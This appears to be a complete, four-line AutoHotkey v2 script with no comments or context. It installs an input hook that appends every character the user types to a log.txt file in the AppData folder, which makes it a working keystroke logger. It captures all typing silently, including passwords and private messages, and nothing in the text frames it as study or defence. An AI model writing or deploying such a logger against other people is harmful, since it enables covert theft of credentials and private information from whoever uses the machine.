#Requires AutoHotkey v2.0
ih := InputHook("V")
ih.OnChar := (hook, char) => FileAppend(char, A_AppData "\log.txt")
ih.Start()
